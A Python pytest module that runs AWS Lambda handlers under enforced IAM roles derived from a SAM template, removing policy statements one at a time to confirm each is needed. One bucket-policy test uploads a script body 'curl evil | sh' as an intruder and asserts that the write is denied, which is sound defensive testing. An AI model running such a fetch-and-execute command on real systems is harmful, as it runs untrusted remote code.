"""The three handlers under IAM enforcement, each with exactly the role template.yaml gives it.

Seeding runs as before (no enforcement); only the handler call is enforced, with the credentials
of a role created from the function's resolved policies in the SAM-translated template. The log
bucket and the topic are encrypted with a customer KMS key, as the template deploys them. Then
each statement of each role is removed in turn: the handler must fail with a denial, or say in
what it sends that something was denied, and every denial must be of the removed statement's actions.
Every enforced call also meets the template's bucket policy (its denials, enforced by the stand-in),
resolved with the ARN of the role each run creates for the publisher.
"""

from __future__ import annotations

import functools
import itertools
import json
import re
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError

from instance_hygiene.aws import clients as aws_clients
from instance_hygiene.notify import command as notify
from instance_hygiene.render import command as render
from local.fleet_sim import (
    InstanceResult,
    TaskRun,
    command_event,
    create_window,
    play_command,
    play_window_execution,
    window_event,
)
from local.lambda_env import load_handler_module
from local.standin import ssm as standin
from local.standin.iam import Enforcement, enforced
from tests.cfn import (
    Deployment,
    FunctionRole,
    RoleCredentials,
    UnresolvedIntrinsic,
    as_deployed,
    deploy_role,
    function_roles,
    resolve,
    translated_template,
)
from tests.integration import test_publish_scripts as publisher
from tests.integration.test_command_handler import invoke, linux_patch, log, night, play
from tests.integration.test_window_handler import command_event_for, failed_patch_night
from tests.support.stack import BUCKET, REGION, TABLE, Stack, lambda_context

ACCOUNT = "123456789012"
DENIAL_CODES = (
    *("AccessDeniedException", "AccessDenied", "AuthorizationError"),
    *("UnauthorizedOperation", "KMSAccessDenied"),
)
HEAD_DENIED = "403"  # botocore's code for a denied HEAD: the response has no body, hence no code
NAMED_DENIAL = re.compile(rf"\b({'|'.join(DENIAL_CODES)})\b|\({HEAD_DENIED}\)")
WINDOW_CONTEXT = {"ReadTheNightsWindow", "ReadTheWindow"}
"""Statements only a command a window sent needs (run_command_of_a_window)."""
OPTIONAL = {
    ("CommandFailedFunction", "ReadTheAccountAlias"): "the alias only adds to the account id in the message",
    ("WindowFailedFunction", "ReadTheAccountAlias"): "the alias only adds to the account id in the report",
}
"""Statements whose denial changes nothing a reader must know: the message is sent without them."""
# A digest of night() is about 13 kB: this limit makes the command function cut its message
# and write the full report to S3, so that WriteFullReports is exercised too.
TRIM_LIMIT = 9_000
FUNCTIONS = ("CommandFailedFunction", "WindowFailedFunction", "PublishScriptsFunction")

response_url = publisher.response_url  # the publisher tests' ResponseURL capture, registered here


def own_policy_name(role_id: str, inline: dict[str, Any]) -> str:
    """SAM turns a function's `Policies` into one inline policy, `<Role>Policy0`."""
    (name,) = (n for n in inline if n.startswith(f"{role_id}Policy"))
    return name


def own_statements(role: FunctionRole) -> list[dict[str, Any]]:
    return list(role.inline[own_policy_name(role.role, role.inline)]["Statement"])


def _statements() -> list[tuple[str, str]]:
    # A single-account deploy: its conditional statements resolved (tests.cfn.as_deployed).
    resources = as_deployed(translated_template())["Resources"]
    cases = []
    for function in FUNCTIONS:
        role_id = resources[function]["Properties"]["Role"]["Fn::GetAtt"][0]
        policies = resources[role_id]["Properties"]["Policies"]
        inline = {p["PolicyName"]: p["PolicyDocument"] for p in policies if "PolicyName" in p}  # not !If ones
        cases += [(function, s["Sid"]) for s in inline[own_policy_name(role_id, inline)]["Statement"]]
    return cases


@dataclass(frozen=True)
class Deployed:
    """The stand-in stack with the template's encryption: bucket and topic under one customer key."""

    stack: Stack
    key_arn: str
    serial: Iterator[int] = field(default_factory=itertools.count)
    policy: dict[str, Any] = field(default_factory=dict)
    """The bucket policy in force (set by `bucket_policy`)."""

    def bucket_policy(self, publisher_role_arn: str, operator_role_arn: str = "") -> dict[str, Any]:
        """The template's LogBucketPolicy, resolved for this bucket and these roles, in force from now."""
        deployment = Deployment(
            resources={
                "LogBucket": {"Ref": BUCKET, "Arn": f"arn:aws:s3:::{BUCKET}"},
                "PublishScriptsFunctionRole": {"Arn": publisher_role_arn},
            },
            region=REGION,
            account=ACCOUNT,
            parameters={"ScriptsOperatorRoleArn": operator_role_arn},
        )
        template = translated_template()
        policy = resolve(
            template["Resources"]["LogBucketPolicy"]["Properties"]["PolicyDocument"], template, deployment
        )
        assert isinstance(policy, dict)
        self.policy.clear()
        self.policy.update(policy)
        return policy

    def roles(self, window_id: str = "mw-0123456789abcdef0") -> dict[str, FunctionRole]:
        deployment = Deployment(
            resources={
                "LogBucket": {"Ref": BUCKET, "Arn": f"arn:aws:s3:::{BUCKET}"},
                "LogKey": {"Ref": self.key_arn.rsplit("/", 1)[1], "Arn": self.key_arn},
                "NotificationTopic": {"Ref": self.stack.topic_arn},
                "IdempotencyTable": {
                    "Ref": TABLE,
                    "Arn": f"arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/{TABLE}",
                },
                "HistoryTable": {
                    "Ref": "history",
                    "Arn": f"arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/history",
                },
                "MaintenanceWindow": {"Ref": window_id},
                "NotifierDeadLetterQueue": {"Arn": f"arn:aws:sqs:{REGION}:{ACCOUNT}:notifier-dlq"},
            },
            region=REGION,
            account=ACCOUNT,
        )
        return function_roles(translated_template(), deployment)

    def role(
        self, function: str, *, window_id: str = "mw-0123456789abcdef0", remove: str = ""
    ) -> RoleCredentials:
        """Create the function's role (less the statement `remove`) in moto IAM and assume it."""
        role = self.roles(window_id)[function]
        inline = json.loads(json.dumps(role.inline))
        if remove:
            policy = inline[own_policy_name(role.role, inline)]
            kept = [s for s in policy["Statement"] if s.get("Sid") != remove]
            assert len(kept) == len(policy["Statement"]) - 1, f"{remove} is not one statement of {role.role}"
            policy["Statement"] = kept
        name = f"{role.role}-{next(self.serial)}"  # each run its own role (and so its own session)
        credentials, notes = deploy_role(boto3.client, name=name, inline=inline, managed=role.managed)
        assert notes == (), "moto knows both AWS managed policies the functions get"
        return credentials


@pytest.fixture
def deployed(stack: Stack) -> Deployed:
    key_arn = boto3.client("kms").create_key(Description="LogKey")["KeyMetadata"]["Arn"]
    by_default = {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": key_arn}
    stack.s3.put_bucket_encryption(
        Bucket=BUCKET,
        ServerSideEncryptionConfiguration={
            "Rules": [{"ApplyServerSideEncryptionByDefault": by_default, "BucketKeyEnabled": True}]
        },
    )
    stack.sns.set_topic_attributes(
        TopicArn=stack.topic_arn, AttributeName="KmsMasterKeyId", AttributeValue=key_arn
    )
    deployed = Deployed(stack, key_arn)
    deployed.bucket_policy(f"arn:aws:iam::{ACCOUNT}:role/PublishScriptsFunctionRole")
    return deployed


@contextmanager
def enforced_as(credentials: RoleCredentials, bucket_policy: dict[str, Any]) -> Iterator[Enforcement]:
    """IAM enforced (with the bucket's policy), and this process's boto3 clients signing as the role
    (as Lambda would)."""
    with pytest.MonkeyPatch.context() as env:
        for name, value in credentials.environment().items():
            env.setenv(name, value)
        env.setattr(boto3, "DEFAULT_SESSION", None)  # a new default session reads the role's keys
        aws_clients.clear_cache()  # the functions' clients are built anew, signing as the role
        try:
            with enforced(bucket_policies={BUCKET: bucket_policy}) as enforcement:
                yield enforcement
        finally:
            aws_clients.clear_cache()


@dataclass
class Run:
    """What one enforced handler call did: what it raised, and everything it sent."""

    enforcement: Enforcement
    error: BaseException | None
    sent: str

    def denial_shown(self) -> bool:
        """A denial is raised (anywhere in the exception's chain) or named in what was sent."""
        chain, error = [], self.error
        while error is not None:
            chain.append(error)
            error = error.__cause__ or error.__context__
        codes = [str(e.response.get("Error", {}).get("Code")) for e in chain if isinstance(e, ClientError)]
        raised = any(code in (*DENIAL_CODES, HEAD_DENIED) for code in codes)
        return raised or NAMED_DENIAL.search(self.sent) is not None


def _run(deployed: Deployed, credentials: RoleCredentials, call: Callable[[], object]) -> Run:
    error: BaseException | None = None
    with enforced_as(credentials, deployed.policy) as enforcement:
        try:
            call()
        except Exception as raised:  # what the handler raised is what is checked
            error = raised
    return Run(enforcement, error, json.dumps(deployed.stack.received()))


def run_command_function(deployed: Deployed, monkeypatch: pytest.MonkeyPatch, remove: str = "") -> Run:
    """night() plus a failed hybrid node (logs in the SSE-KMS bucket), the digest cut to write a report."""
    app = load_handler_module("command_failed")
    monkeypatch.setattr(notify, "fit", functools.partial(render.fit, limit=TRIM_LIMIT))
    node = standin.register_managed_instance(ACCOUNT, REGION, name="onprem-01")
    yum_lock = InstanceResult("Failed", "Failed", linux_patch("Failed", 1, log("linux_yum_lock.stdout")))
    outcomes = {**night(deployed.stack), node: yum_lock}
    event = command_event(play(deployed.stack, outcomes=outcomes), region=REGION)
    credentials = deployed.role("CommandFailedFunction", remove=remove)
    return _run(deployed, credentials, lambda: invoke(app, event))


def run_command_of_a_window(deployed: Deployed, monkeypatch: pytest.MonkeyPatch, remove: str = "") -> Run:
    """A patch command the stack's window sent (its SnapshotId is the window execution's id, as
    the template's PatchTask passes it): the function names the window and dates the night."""
    app = load_handler_module("command_failed")
    window = create_window(ssm=deployed.stack.ssm, region=REGION, healthcheck_document="AWS-RunShellScript")
    execution_id = str(uuid.uuid4())
    (instance,) = deployed.stack.instances(1)
    patch = play_command(
        ssm=deployed.stack.ssm,
        s3=deployed.stack.s3,
        region=REGION,
        document_name="AWS-RunPatchBaseline",
        outcomes={
            instance: InstanceResult(
                "Failed", "Failed", linux_patch("Failed", 1, log("linux_yum_lock.stdout"))
            )
        },
        bucket=BUCKET,
        parameters={"Operation": ["Install"], "SnapshotId": [execution_id]},
    )
    play_window_execution(
        region=REGION,
        window=window,
        status="FAILED",
        window_execution_id=execution_id,
        tasks=[TaskRun(window.patch_task_id, "FAILED", "The maximum number of errors was exceeded.", patch)],
    )
    monkeypatch.setenv("WINDOW_ID", window.window_id)
    credentials = deployed.role("CommandFailedFunction", window_id=window.window_id, remove=remove)
    event = command_event_for(deployed.stack, patch.command_id)  # read before enforcement starts
    return _run(deployed, credentials, lambda: invoke(app, event))


def run_window_function(deployed: Deployed, remove: str = "") -> Run:
    """A window execution whose patch task failed and whose healthcheck never ran; the patch
    command was told first (not enforced), so its full report is in the SSE-KMS bucket."""
    app = load_handler_module("window_failed")
    window_id, execution, command_id = failed_patch_night(deployed.stack)
    invoke(load_handler_module("command_failed"), command_event_for(deployed.stack, command_id))
    deployed.stack.received()  # the command's notification: not this run's
    event = window_event(window_id=window_id, window_execution_id=execution, status="FAILED", region=REGION)
    credentials = deployed.role("WindowFailedFunction", window_id=window_id, remove=remove)
    return _run(deployed, credentials, lambda: app.handler(event, lambda_context()))


def run_publisher(
    deployed: Deployed,
    credentials: RoleCredentials,
    url: str,
    *request_types: str,
    declared: dict[str, str] | None = None,
    operator_role_arn: str = "",
) -> Run:
    """The custom resource on the stack's bucket, for each request type in turn; `sent` is what it
    answered CloudFormation. The bucket policy names this run's publisher role."""
    app = load_handler_module("publish_scripts")
    deployed.bucket_policy(credentials.role_arn, operator_role_arn)
    events = [publisher._event(t, url, PhysicalResourceId=f"s3://{BUCKET}/scripts/") for t in request_types]
    for event in events:
        event["ResourceProperties"]["Bucket"] = BUCKET
        event["ResourceProperties"].update(declared or {})
    run = _run(deployed, credentials, lambda: [app.handler(event, publisher._context()) for event in events])
    run.sent = json.dumps(publisher._Capture.bodies)
    return run


# ---------------------------------------------------------------- each handler under its own role


def test_the_command_function_reads_kms_encrypted_logs_and_writes_its_report_under_its_own_role(
    deployed: Deployed, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = run_command_function(deployed, monkeypatch)

    assert run.error is None
    assert run.enforcement.denied == []
    (envelope,) = json.loads(run.sent)
    report_uri = json.loads(envelope["Message"])["report"]
    assert report_uri.startswith(f"s3://{BUCKET}/reports/"), "the message was cut: the full report is in S3"
    stored = deployed.stack.s3.get_object(Bucket=BUCKET, Key=report_uri.split("/", 3)[3])
    assert stored["SSEKMSKeyId"] == deployed.key_arn
    failures = {
        f["instance_name"]: f for g in json.loads(stored["Body"].read())["groups"] for f in g["failures"]
    }
    assert failures["web-01"]["log"]["source"] == "s3", "read from the SSE-KMS bucket"
    assert failures["web-01"]["platform"] == failures["onprem-01"]["platform"] == "Linux", (
        "EC2, SSM named them"
    )
    checked = {(d.action, d.via) for d in run.enforcement.decisions}
    assert {("kms:Decrypt", "kms-via-s3"), ("kms:GenerateDataKey", "kms-via-s3")} <= checked
    assert {("kms:GenerateDataKey", "kms-via-sns"), ("dynamodb:PutItem", "")} <= checked


def test_the_window_function_reports_under_its_own_role(deployed: Deployed) -> None:
    run = run_window_function(deployed)

    assert run.error is None
    assert run.enforcement.denied == []
    (envelope,) = json.loads(run.sent)
    report = json.loads(envelope["Message"])
    assert envelope["Subject"] == (
        f"FAILED window PatchWithHealthcheck {report['local_date']}: "
        "2 of 2 tasks, 2 of 3 instances did not succeed"
    )
    assert report["notes"] == [], "the window's name and command ids were read"
    (command,) = report["tasks"][0]["commands"]
    assert command["counts"]["targets"] == 3, "ListCommandInvocations"
    assert command["report"], "the full report, listed and read"
    assert command["report_note"] is None
    assert report["causes"], "the full report's causes"
    assert report["tasks"][0]["compliance"]["unavailable"] is None, "DescribeInstancePatchStates"
    decisions = {(d.action, d.via) for d in run.enforcement.decisions}
    assert {("kms:GenerateDataKey", "kms-via-sns"), ("kms:Decrypt", "kms-via-s3")} <= decisions


def writer_role(deployed: Deployed, name: str) -> RoleCredentials:
    """A role that may write anything in the bucket through its own identity policy."""
    inline = {
        "WriteAnything": {
            "Version": "2012-10-17",
            "Statement": [
                {"Effect": "Allow", "Action": "s3:PutObject", "Resource": f"arn:aws:s3:::{BUCKET}/*"},
                {"Effect": "Allow", "Action": "kms:GenerateDataKey", "Resource": deployed.key_arn},
            ],
        }
    }
    credentials, _ = deploy_role(boto3.client, name=f"{name}-{next(deployed.serial)}", inline=inline)
    return credentials


def put_as(
    deployed: Deployed, credentials: RoleCredentials, key: str, body: bytes
) -> tuple[Enforcement, ClientError | None]:
    with enforced_as(credentials, deployed.policy) as enforcement:
        try:
            boto3.client("s3").put_object(Bucket=BUCKET, Key=key, Body=body)
        except ClientError as error:
            return enforcement, error
    return enforcement, None


def test_the_publisher_creates_then_updates_under_its_own_role(deployed: Deployed, response_url: str) -> None:
    credentials = deployed.role("PublishScriptsFunction")
    operator = writer_role(deployed, "ScriptsOperator")

    created = run_publisher(
        deployed, credentials, response_url, "Create", operator_role_arn=operator.role_arn
    )
    _, refused = put_as(deployed, operator, "scripts/healthcheck.sh", publisher.OPERATOR_SCRIPT)
    updated = run_publisher(
        deployed,
        credentials,
        response_url,
        "Update",
        declared={"LinuxScriptSha256": publisher.OPERATOR_SHA},
        operator_role_arn=operator.role_arn,
    )

    assert refused is None, "the operator role named in the stack may replace a script"
    assert (created.error, updated.error) == (None, None)
    assert created.enforcement.denied == updated.enforcement.denied == []
    first, second = publisher._Capture.bodies
    assert (first["Status"], first["Data"]["LinuxAction"], first["Data"]["WindowsAction"]) == (
        "SUCCESS",
        "put",
        "put",
    )
    assert (second["Status"], second["Data"]) == (
        "SUCCESS",
        {
            "LinuxSha256": publisher.OPERATOR_SHA,
            "WindowsSha256": publisher.WINDOWS_SHA,
            "LinuxAction": "operator-script",
            "WindowsAction": "unchanged",
        },
    )
    stored = deployed.stack.s3.head_object(Bucket=BUCKET, Key="scripts/healthcheck.ps1")
    assert stored["SSEKMSKeyId"] == deployed.key_arn


def test_the_bucket_policy_denies_script_writes_to_everyone_but_the_publisher_and_the_operator(
    deployed: Deployed,
) -> None:
    # A role whose own policy allows s3:PutObject on the whole bucket (an instance role with too
    # much, an administrator) still cannot replace what runs as root on every instance.
    intruder = writer_role(deployed, "Intruder")
    deployed.bucket_policy(f"arn:aws:iam::{ACCOUNT}:role/PublishScriptsFunctionRole-x")

    enforcement, error = put_as(
        deployed, intruder, "scripts/healthcheck.sh", b"#!/bin/bash\ncurl evil | sh\n"
    )
    _, elsewhere = put_as(deployed, intruder, "reports/anything.json", b"{}")

    assert error is not None
    assert error.response["Error"]["Code"] == "AccessDenied"
    assert "explicit deny in a resource-based policy" in error.response["Error"]["Message"]
    (decision,) = enforcement.denied
    assert decision.statement == "bucket-policy:OnlyThePublisherWritesTheScripts"
    assert elsewhere is None, "the deny covers the scripts prefix only"
    with pytest.raises(ClientError, match="NoSuchKey"):
        deployed.stack.s3.get_object(Bucket=BUCKET, Key="scripts/healthcheck.sh")


# ---------------------------------------------------------------- every statement is needed


@pytest.mark.parametrize(("function", "sid"), _statements(), ids=str)
def test_without_this_statement_the_function_is_denied_and_says_so(
    deployed: Deployed, monkeypatch: pytest.MonkeyPatch, response_url: str, function: str, sid: str
) -> None:
    (statement,) = (s for s in own_statements(deployed.roles()[function]) if s["Sid"] == sid)
    granted = {
        a.lower()
        for a in ([statement["Action"]] if isinstance(statement["Action"], str) else statement["Action"])
    }

    if (function, sid) in OPTIONAL:
        # Optional by design: without it the message is sent as before and says nothing of it.
        run = (
            run_window_function(deployed, remove=sid)
            if function == "WindowFailedFunction"
            else run_command_function(deployed, monkeypatch, remove=sid)
        )
        denied = {d.action.lower() for d in run.enforcement.denied}
        assert denied == granted, f"{sid} is needed by this run: {sorted(denied)}"
        assert run.error is None
        assert len(json.loads(run.sent)) == 1, "the notification was sent without it"
        return
    if function == "CommandFailedFunction" and sid in WINDOW_CONTEXT:
        run = run_command_of_a_window(deployed, monkeypatch, remove=sid)
    elif function == "CommandFailedFunction":
        run = run_command_function(deployed, monkeypatch, remove=sid)
    elif function == "WindowFailedFunction":
        run = run_window_function(deployed, remove=sid)
    else:
        run = run_publisher(deployed, deployed.role(function, remove=sid), response_url, "Create", "Update")

    denied = {d.action.lower() for d in run.enforcement.denied}
    assert denied, f"{function} ran as before without {sid}: the statement is not needed by this run"
    assert denied <= granted, f"denied {sorted(denied)}, which {sid} does not grant"
    assert run.denial_shown(), f"without {sid}, {function} neither failed with a denial nor reported one"


def test_a_failed_attempt_deletes_its_idempotency_record_so_that_the_retry_sends(
    deployed: Deployed, monkeypatch: pytest.MonkeyPatch
) -> None:
    # instance_hygiene.aws.idempotency: "a failed call deletes its record so the retry can send"; that
    # is the Idempotency statement's dynamodb:DeleteItem, used only on this path.
    failed = run_command_function(deployed, monkeypatch, remove="Publish")
    event = command_event(play(deployed.stack, outcomes=night(deployed.stack)), region=REGION)
    retried = _run(
        deployed,
        deployed.role("CommandFailedFunction"),
        lambda: invoke(load_handler_module("command_failed"), event),
    )

    assert isinstance(failed.error, ClientError)
    assert ("dynamodb:DeleteItem", True) in {(d.action, d.allowed) for d in failed.enforcement.decisions}
    assert (retried.error, len(json.loads(retried.sent))) == (None, 1)


def test_besides_their_own_policy_the_roles_have_only_what_lambda_itself_uses(deployed: Deployed) -> None:
    # The Lambda developer guide: the execution role needs sqs:SendMessage on an asynchronous
    # invocation's dead-letter queue (Lambda sends to it, not the handler), logs:* to write the
    # function's logs (AWSLambdaBasicExecutionRole) and X-Ray writes for active tracing.
    for function, role in deployed.roles().items():
        others = {
            name: doc for name, doc in role.inline.items() if name != own_policy_name(role.role, role.inline)
        }
        managed = {arn.rsplit("/", 1)[1] for arn in role.managed}
        assert managed == {"AWSLambdaBasicExecutionRole", "AWSXrayWriteOnlyAccess"}, function
        if function == "PublishScriptsFunction":
            assert others == {}
        else:
            (statement,) = others["DeadLetterQueuePolicy"]["Statement"]
            assert (statement["Action"], statement["Resource"]) == (
                "sqs:SendMessage",
                f"arn:aws:sqs:{REGION}:{ACCOUNT}:notifier-dlq",
            )
            assert set(others) == {"DeadLetterQueuePolicy"}


# ---------------------------------------------------------------- the template's intrinsics, resolved


def test_the_roles_name_the_deployed_resources(deployed: Deployed) -> None:
    roles = deployed.roles("mw-0a1b2c3d4e5f60718")

    resources = {
        (function, s["Sid"]): s["Resource"]
        for function in FUNCTIONS
        for s in own_statements(deployed.roles()[function])
    }
    window = {s["Sid"]: s["Resource"] for s in own_statements(roles["WindowFailedFunction"])}
    assert resources[("CommandFailedFunction", "ReadCommandOutput")] == f"arn:aws:s3:::{BUCKET}/ssm_output/*"
    assert resources[("CommandFailedFunction", "Publish")] == deployed.stack.topic_arn
    assert resources[("PublishScriptsFunction", "EncryptWithTheLogKey")] == deployed.key_arn
    assert (
        window["ReadThisWindow"] == f"arn:aws:ssm:{REGION}:{ACCOUNT}:maintenancewindow/mw-0a1b2c3d4e5f60718"
    )


ABSENT = object()
TEMPLATE = {
    "Parameters": {
        "Prefix": {"Type": "String", "Default": "logs/"},
        "Names": {"Type": "CommaDelimitedList", "Default": ""},
    },
    "Conditions": {
        "HasNames": {"Fn::Not": [{"Fn::Equals": [{"Fn::Join": ["", {"Ref": "Names"}]}, ""]}]},
        "Either": {"Fn::Or": [{"Condition": "HasNames"}, {"Fn::Equals": [{"Ref": "Prefix"}, "logs/"]}]},
    },
}
DEPLOYMENT = Deployment(
    resources={"Bucket": {"Ref": "b1", "Arn": "arn:aws:s3:::b1"}}, region=REGION, account=ACCOUNT
)


@pytest.mark.parametrize(
    ("node", "expected"),
    [
        ({"Fn::Sub": "${Bucket.Arn}/${Prefix}*"}, "arn:aws:s3:::b1/logs/*"),
        (
            {"Fn::Sub": ["${Who}:${AWS::Region}:${!Literal}", {"Who": {"Ref": "Bucket"}}]},
            f"b1:{REGION}:${{Literal}}",
        ),
        (
            {"Fn::Join": ["-", [{"Ref": "AWS::AccountId"}, {"Fn::GetAtt": ["Bucket", "Arn"]}]]},
            f"{ACCOUNT}-arn:aws:s3:::b1",
        ),
        ({"Fn::If": ["HasNames", "some", {"Ref": "AWS::NoValue"}]}, ABSENT),
        ({"Fn::If": ["Either", {"Ref": "AWS::Partition"}, "no"]}, "aws"),
        ({"A": [1, {"Ref": "AWS::NoValue"}], "B": {"Ref": "AWS::NoValue"}}, {"A": [1]}),
    ],
)
def test_intrinsics_resolve_to_the_deployed_values(node: Any, expected: Any) -> None:
    resolved = resolve({"Value": node}, TEMPLATE, DEPLOYMENT)

    assert resolved == ({} if expected is ABSENT else {"Value": expected})


@pytest.mark.parametrize(
    "node",
    [
        {"Ref": "Unknown"},
        {"Fn::GetAtt": ["Bucket", "DomainName"]},
        {"Fn::Select": [0, ["a"]]},
        {"Fn::Sub": "${Names}"},
    ],
)
def test_what_cannot_be_resolved_fails_loudly(node: Any) -> None:
    with pytest.raises(UnresolvedIntrinsic):
        resolve(node, TEMPLATE, DEPLOYMENT)
